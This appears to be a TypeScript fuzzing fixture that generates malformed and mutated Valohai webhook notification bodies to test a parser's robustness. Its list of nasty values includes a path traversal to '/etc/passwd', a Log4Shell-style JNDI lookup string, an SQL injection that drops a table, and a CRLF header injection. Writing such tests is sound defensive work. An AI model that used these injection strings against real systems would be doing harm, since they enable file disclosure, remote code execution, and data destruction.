import type { SeededRandom } from './seeded-random.ts';

/** Values that have broken parsers before. */
const NASTY: readonly [unknown, ...unknown[]] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  ' ',
  '\0',
  '\ud800',
  '\u202e\u0000\u001b[31m',
  '💥'.repeat(50),
  '../../../etc/passwd',
  ['$', '{jndi:ldap://x.example/a}'].join(''),
  "'; DROP TABLE executions; --",
  '%00%0d%0aX-Injected: 1',
  'NaN',
  'x'.repeat(10_000),
  [],
  [[]],
  [null],
  {},
  { length: 1 },
  { __proto__: null },
  { toString: 1, valueOf: 2 },
  ['error', 1, {}],
];

const KEYS = [
  'data',
  'valohai.execution-id',
  'valohai.execution-status',
  'valohai.execution-tags',
  'valohai.execution-counter',
  'valohai.project-id',
  'valohai.pipeline-id',
  'valohai.task-id',
  '__proto__',
  'constructor',
  'toString',
  '',
  'DATA',
  'valohai',
] as const satisfies readonly [string, ...string[]];

const STATUSES = ['error', 'error', 'complete', 'complete', 'stopped', 'started', 'crashed', ''] as const;

/** A notification as Valohai sends it. */
export function notification(random: SeededRandom, executions: readonly string[]): Record<string, unknown> {
  const id = random.chance(0.5) ? executions[random.below(executions.length)] : uuid(random);
  return {
    project: uuid(random),
    title: 'Execution finished: harbour/tides/#7 (failed)',
    type: 'execution_failed',
    body: 'Execution [harbour/tides/#7](https://valohai.example/) (by somebody)\nfinished with duration 11:01.',
    data: {
      'valohai.execution-id': id,
      'valohai.execution-counter': 7,
      'valohai.execution-status': random.pick(STATUSES),
      'valohai.execution-step': 'predict',
      'valohai.execution-tags': ['nightly', 'retry: 1'],
      'valohai.project-id': uuid(random),
      'valohai.project-name': 'harbour/tides',
      'valohai.pipeline-id': null,
      'valohai.task-id': null,
    },
  };
}

/** A body: a valid notification, one that was changed here and there, or bytes of any kind. */
export function bodyFor(random: SeededRandom, executions: readonly string[]): Buffer {
  const lot = random.next();
  if (lot < 0.05) return Buffer.from(JSON.stringify(notification(random, executions)));
  if (lot < 0.6) return Buffer.from(JSON.stringify(mutated(random, executions)));
  if (lot < 0.8) return Buffer.from(brokenText(random, JSON.stringify(mutated(random, executions))));
  if (lot < 0.85) return Buffer.from(oddText(random));
  if (lot < 0.9) return Buffer.alloc(0);
  if (lot < 0.902) return Buffer.alloc(262_000 + random.below(1_000), 'x');
  return bytes(random, random.below(600));
}

/** A valid notification with a few changes: wrong kinds, missing, strange, huge or nested values, other keys. */
function mutated(random: SeededRandom, executions: readonly string[]): unknown {
  let value: unknown = notification(random, executions);
  const changes = 1 + random.below(4);
  for (let change = 0; change < changes; change += 1) value = changed(random, value);
  return value;
}

function changed(random: SeededRandom, value: unknown): unknown {
  if (random.chance(0.02)) return nasty(random);
  if (Array.isArray(value))
    return value.length === 0 ? [nasty(random)] : value.map((item) => changed(random, item));
  if (typeof value !== 'object' || value === null) return nasty(random);
  const entries = Object.entries(value);
  const chosen = random.below(entries.length + 1);
  const [key, inner] = entries[chosen] ?? [random.pick(KEYS), nasty(random)];
  const rest = entries.filter((_, index) => index !== chosen);
  switch (random.below(6)) {
    case 0:
      return Object.fromEntries(rest);
    case 1:
      return Object.fromEntries([...rest, [key, nasty(random)]]);
    case 2:
      return Object.fromEntries([...rest, [random.pick(KEYS), inner]]);
    case 3:
      return Object.fromEntries([...rest, [key, random.chance(0.5) ? [inner] : { [key]: inner }]]);
    default:
      // Mostly go on inside: what matters stands in `data`.
      return Object.fromEntries([...rest, [key, changed(random, inner)]]);
  }
}

function nasty(random: SeededRandom): unknown {
  return random.chance(0.05) ? nested(1 + random.below(3_000)) : random.pick(NASTY);
}

function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

/** JSON that was cut, doubled, spoilt at one place, or says a key twice. */
function brokenText(random: SeededRandom, text: string): string {
  const place = random.below(text.length + 1);
  switch (random.below(6)) {
    case 0:
      return text.slice(0, place);
    case 1:
      return `${text}${text}`;
    case 2:
      return `${text.slice(0, place)}${String.fromCharCode(random.below(0x300))}${text.slice(place)}`;
    case 3:
      return text.replace('{', `{"data":${JSON.stringify(nasty(random))},`);
    case 4:
      return `\ufeff${text}`;
    default:
      return `${text.slice(0, place)}${text.slice(place + 1 + random.below(8))}`;
  }
}

function oddText(random: SeededRandom): string {
  const depth = 1 + random.below(20_000);
  return random.pick([
    '[',
    '[]',
    'null',
    '"text"',
    '7',
    '{"data":{}}',
    '{"data":[]}',
    '{"data":"x"}',
    'NaN',
    "{'data': 1}",
    '<xml/>',
    'data=1&x=2',
    '['.repeat(depth),
    `${'['.repeat(depth)}${']'.repeat(depth)}`,
    `${'{"data":'.repeat(depth)}1${'}'.repeat(depth)}`,
    `{"data":{"valohai.execution-counter":${'9'.repeat(400)}}}`,
  ]);
}

export function bytes(random: SeededRandom, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => random.below(256)));
}

function uuid(random: SeededRandom): string {
  return 'xxxxxxxx-xxxx-4xxx-axxx-xxxxxxxxxxxx'.replaceAll('x', () => random.below(16).toString(16));
}
